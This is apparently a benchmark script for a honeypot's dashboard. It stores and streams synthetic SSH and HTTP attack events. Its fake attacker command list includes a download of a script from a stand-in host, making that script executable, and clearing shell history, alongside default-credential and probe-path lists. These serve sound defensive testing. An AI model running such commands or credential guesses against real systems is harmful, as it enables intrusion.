"""A PhantomNet API + storage writer filled with synthetic attack traffic, for the dashboard.

For benchmarks and local UI work only (never used by tests in place of ``phantomnet up``):
it runs the real ``create_app`` over the real storage schema and writer, on a MemoryBus. It
stores ``--events`` synthetic events spread over ``--days`` (bulk insert through the storage
ingest path), then publishes ``--rate`` events/s live through the bus (the writer stores them
and ``/api/stream`` forwards them). It prints one JSON line ``{"url", "token"}`` when ready.

Synthetic attackers get a made-up location (a city picked from a hash of the address) so the
map has something to show; the figures do not depend on it.

    python bench/dashboard_server.py --events 1000000 --rate 500 --data-dir /tmp/pn-dash
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import hashlib
import json
import random
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import uuid4

import uvicorn

from phantomnet.api.app import create_app
from phantomnet.api.auth import create_token
from phantomnet.bus.memory import MemoryBus
from phantomnet.events import (
    AuthAttempt,
    ClientFingerprint,
    CommandInput,
    ConnectionClosed,
    ConnectionOpened,
    Detection,
    Event,
    HttpRequest,
    Score,
    SensorRef,
    SensorStatus,
)
from phantomnet.events.base import Endpoint
from phantomnet.settings import load_settings
from phantomnet.storage.db import make_engine
from phantomnet.storage.ingest import apply_derived, insert_events
from phantomnet.storage.migrate import upgrade_async
from phantomnet.storage.writer import StorageWriter

CITIES = [
    ("Amsterdam", "Netherlands", "NL", 52.37, 4.90),
    ("Beijing", "China", "CN", 39.90, 116.40),
    ("Moscow", "Russia", "RU", 55.75, 37.62),
    ("Sao Paulo", "Brazil", "BR", -23.55, -46.63),
    ("Ashburn", "United States", "US", 39.04, -77.49),
    ("Singapore", "Singapore", "SG", 1.35, 103.82),
    ("Frankfurt", "Germany", "DE", 50.11, 8.68),
    ("Seoul", "South Korea", "KR", 37.57, 126.98),
    ("Mumbai", "India", "IN", 19.08, 72.88),
    ("Lagos", "Nigeria", "NG", 6.52, 3.38),
    ("Hanoi", "Vietnam", "VN", 21.03, 105.85),
    ("Tehran", "Iran", "IR", 35.69, 51.39),
    ("Paris", "France", "FR", 48.86, 2.35),
    ("Johannesburg", "South Africa", "ZA", -26.20, 28.05),
    ("Sydney", "Australia", "AU", -33.87, 151.21),
    ("Toronto", "Canada", "CA", 43.65, -79.38),
]
USERS = ["root", "admin", "ubuntu", "test", "oracle", "pi", "postgres", "git", "user", "guest"]
PASSWORDS = ["123456", "password", "admin", "root", "qwerty", "P@ssw0rd", "letmein", "toor"]
COMMANDS = [
    "uname -a",
    "cat /proc/cpuinfo",
    "wget http://example.invalid/x.sh",
    "id",
    "ls -la",
    "cd /tmp; chmod +x x.sh",
    "nproc",
    "free -m",
    "crontab -l",
    "history -c",
]
PATHS = ["/", "/wp-login.php", "/.env", "/admin", "/phpmyadmin/", "/cgi-bin/luci", "/api/v1/pods"]
DST = Endpoint(ip="127.0.0.1", port=2222)


def fake_geo(ip: str) -> dict[str, Any]:
    """A stable made-up location for a synthetic address (benchmark data only)."""
    h = int(hashlib.sha256(ip.encode()).hexdigest()[:8], 16)
    city, country, cc, lat, lon = CITIES[h % len(CITIES)]
    jitter = ((h >> 8) % 200 - 100) / 100
    return {
        "city": city,
        "country": country,
        "country_code": cc,
        "asn": f"AS{h % 65000}",
        "latitude": lat + jitter,
        "longitude": lon + jitter,
    }


def attacker_ips(n: int, rnd: random.Random) -> list[str]:
    return [
        f"{rnd.randint(1, 223)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
        for _ in range(n)
    ]


def ssh_session(ip: str, at: datetime, rnd: random.Random) -> list[Event]:
    """One SSH visit: connect, fingerprint, a few logins, maybe commands, a score, close."""
    sid, src = uuid4(), Endpoint(ip=ip, port=rnd.randint(1024, 65535))
    env: dict[str, Any] = {
        "sensor": SensorRef(node="bench", component="ssh"),
        "session_id": sid,
        "src": src,
        "dst": DST,
    }
    t = iter(at + timedelta(milliseconds=40 * i) for i in range(100))
    out: list[Event] = [
        ConnectionOpened(**env, occurred_at=next(t), protocol="ssh"),
        ClientFingerprint(
            **env,
            occurred_at=next(t),
            protocol="ssh",
            method="hassh",
            value=f"{rnd.getrandbits(128):032x}",
        ),
    ]
    accepted = rnd.random() < 0.3
    for i in range(rnd.randint(1, 4)):
        ok = accepted and i > 0
        out.append(
            AuthAttempt(
                **env,
                occurred_at=next(t),
                protocol="ssh",
                accepted=ok,
                username=rnd.choice(USERS),
                password=rnd.choice(PASSWORDS),
            )
        )
        if ok:
            break
    if accepted:
        out += [
            CommandInput(**env, occurred_at=next(t), protocol="ssh", command=c)
            for c in rnd.sample(COMMANDS, rnd.randint(1, 4))
        ]
    score = rnd.uniform(5, 99)
    level = "HIGH" if score >= 70 else "MEDIUM" if score >= 40 else "LOW"
    decision = "BLOCK" if level == "HIGH" else "ALERT" if level == "MEDIUM" else "ALLOW"
    out.append(
        Score(
            **env,
            occurred_at=next(t),
            subject_kind="session",
            score=score,
            level=level,
            decision=decision,
            confidence=0.8,
            model_version="bench",
        )
    )
    if level == "HIGH":
        out.append(
            Detection(
                **env,
                occurred_at=next(t),
                rule="ssh_brute_force",
                severity="high",
                protocol="ssh",
                first_seen=at,
                last_seen=at,
                count=len(out),
                summary=f"{ip} tried many passwords",
                detector="bench",
                evidence=tuple(f"event:{e.event_id}" for e in out[2:5]),
            )
        )
    out.append(ConnectionClosed(**env, occurred_at=next(t), protocol="ssh", duration_s=1.0))
    return out


def http_probe(ip: str, at: datetime, rnd: random.Random) -> list[Event]:
    src = Endpoint(ip=ip, port=rnd.randint(1024, 65535))
    return [
        HttpRequest(
            sensor=SensorRef(node="bench", component="http"),
            src=src,
            dst=Endpoint(ip="127.0.0.1", port=8080),
            occurred_at=at,
            method="GET",
            path=rnd.choice(PATHS),
            status=404,
            user_agent="zgrab/0.x",
        )
    ]


def traffic(
    ips: list[str], start: datetime | None, end: datetime, rnd: random.Random
) -> Iterator[Event]:
    """Endless synthetic visits with times spread uniformly in [start, end) (start None: now)."""
    span = (end - start).total_seconds() if start else 0.0
    while True:
        at = start + timedelta(seconds=rnd.random() * span) if start else datetime.now(UTC)
        ip = rnd.choice(ips)
        yield from (ssh_session if rnd.random() < 0.6 else http_probe)(ip, at, rnd)


def demo_session(data_dir: Path) -> list[Event]:
    """One SSH session with an asciicast recording (for the replay page)."""
    sid, now = uuid4(), datetime.now(UTC)
    rel = f"recordings/{sid}.cast"
    (data_dir / "recordings").mkdir(parents=True, exist_ok=True)
    frames = [
        {"version": 2, "width": 80, "height": 24, "timestamp": int(now.timestamp())},
        [0.2, "o", "root@web01:~# "],
        [0.9, "o", "uname -a\r\n"],
        [1.0, "o", "Linux web01 5.15.0-91-generic x86_64 GNU/Linux\r\nroot@web01:~# "],
        [1.8, "o", "echo demo-replay\r\ndemo-replay\r\nroot@web01:~# "],
    ]
    (data_dir / rel).write_text("\n".join(json.dumps(f) for f in frames) + "\n")
    env: dict[str, Any] = {
        "sensor": SensorRef(node="bench", component="ssh"),
        "session_id": sid,
        "src": Endpoint(ip="198.51.100.23", port=50000),
        "dst": DST,
    }
    return [
        ConnectionOpened(**env, occurred_at=now, protocol="ssh"),
        AuthAttempt(
            **env, occurred_at=now, protocol="ssh", username="root", password="toor", accepted=True
        ),
        CommandInput(**env, occurred_at=now, protocol="ssh", command="uname -a"),
        CommandInput(**env, occurred_at=now, protocol="ssh", command="echo demo-replay"),
        ConnectionClosed(**env, occurred_at=now, protocol="ssh", duration_s=2.0, recording=rel),
    ]


async def store(engine: Any, batch: list[Event]) -> None:
    async with engine.begin() as conn:
        fresh = await insert_events(conn, batch)
        await apply_derived(conn, [e for e in batch if e.event_id in fresh], fake_geo)


async def populate(engine: Any, n: int, days: float, rnd: random.Random) -> float:
    """Bulk-store ``n`` events over the last ``days`` through the storage ingest path."""
    t0 = time.perf_counter()
    now = datetime.now(UTC)
    source = traffic(attacker_ips(3000, rnd), now - timedelta(days=days), now, rnd)
    done = 0
    while done < n:
        batch = [next(source) for _ in range(min(5000, n - done))]
        await store(engine, batch)
        done += len(batch)
        if done % 100_000 < 5000:
            print(f"stored {done} events", file=sys.stderr, flush=True)
    return time.perf_counter() - t0


async def publish_live(bus: MemoryBus, rate: int, rnd: random.Random) -> None:
    """Publish about ``rate`` events/s (in 20 ms slices) with current timestamps."""
    ips = attacker_ips(200, rnd)
    tick, sent, t0 = 0.02, 0, time.monotonic()
    status = SensorRef(node="bench", component="ssh")
    next_status = 0.0
    source = traffic(ips, None, datetime.now(UTC), rnd)
    while True:
        due = int((time.monotonic() - t0) * rate) - sent
        batch: list[Event] = []
        while len(batch) < due:
            batch.append(next(source))
        if time.monotonic() >= next_status:
            batch.append(
                SensorStatus(sensor=status, state="up", listen="127.0.0.1:2222", events=sent)
            )
            next_status = time.monotonic() + 5
        if batch:
            await bus.publish_many(batch)
            sent += len(batch)
        await asyncio.sleep(tick)


async def main(args: argparse.Namespace) -> None:
    args.data_dir.mkdir(parents=True, exist_ok=True)
    overrides: dict[str, Any] = {"data_dir": args.data_dir, "api": {"port": args.port}}
    if args.db:
        overrides["database"] = {"url": args.db}
    settings = load_settings(None, **overrides)
    await upgrade_async(settings.database_url)
    engine = make_engine(settings.database_url)
    rnd = random.Random(7)
    if args.events:
        took = await populate(engine, args.events, args.days, rnd)
        print(f"populated {args.events} events in {took:.1f}s", file=sys.stderr, flush=True)
    await store(engine, demo_session(settings.data_dir))
    token = await create_token(engine, role="admin", name="bench")
    bus = MemoryBus(queue_size=settings.bus.queue_size)
    await bus.start()
    writer = StorageWriter(bus, engine, enrich=fake_geo)
    await writer.start()
    app = create_app(settings, engine=engine, bus=bus)
    with contextlib.suppress(ImportError):
        from phantomnet.dashboard import mount_dashboard

        mount_dashboard(app)
    config = uvicorn.Config(app, host="127.0.0.1", port=args.port, log_level="warning")
    server = uvicorn.Server(config)
    tasks = [asyncio.create_task(server.serve()), asyncio.create_task(writer.run())]
    while not server.started:
        await asyncio.sleep(0.05)
    port = server.servers[0].sockets[0].getsockname()[1]
    print(json.dumps({"url": f"http://127.0.0.1:{port}", "token": token}), flush=True)
    if args.rate:
        tasks.append(asyncio.create_task(publish_live(bus, args.rate, rnd)))
    await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--data-dir", type=Path, required=True)
    p.add_argument("--db", default="", help="database URL (default: SQLite in --data-dir)")
    p.add_argument("--events", type=int, default=0, help="synthetic events to store first")
    p.add_argument("--days", type=float, default=7.0, help="spread stored events over N days")
    p.add_argument("--rate", type=int, default=0, help="live events per second")
    p.add_argument("--port", type=int, default=0)
    return p.parse_args(argv)


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main(parse_args()))
